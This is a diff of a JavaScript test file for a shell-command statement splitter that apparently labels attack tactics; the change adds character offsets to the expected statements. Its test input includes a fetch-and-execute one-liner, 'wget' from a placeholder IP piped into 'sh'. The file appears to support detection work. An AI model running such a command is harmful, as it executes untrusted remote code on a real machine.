@@ -91,13 +91,13 @@ describe('who names the tactic of a statement', () => {
   });
 });
 
-it('a line is told apart into its statements, each with the operator after it', () => {
+it('a line is told apart into its statements, each with its place and the operator after it', () => {
   expect(typedStatements('cd /tmp && wget http://192.0.2.1/a | sh; for i in 1 2; do id; done')).toEqual([
-    { text: 'cd /tmp', separator: '&&' },
-    { text: 'wget http://192.0.2.1/a', separator: '|' },
-    { text: 'sh', separator: ';' },
+    { text: 'cd /tmp', start: 0, separator: '&&' },
+    { text: 'wget http://192.0.2.1/a', start: 11, separator: '|' },
+    { text: 'sh', start: 37, separator: ';' },
   ]);
-  expect(typedStatements('')).toEqual([{ text: '', separator: ';' }]);
+  expect(typedStatements('')).toEqual([{ text: '', start: 0, separator: ';' }]);
 });
 
 describe('the catalogue', () => {
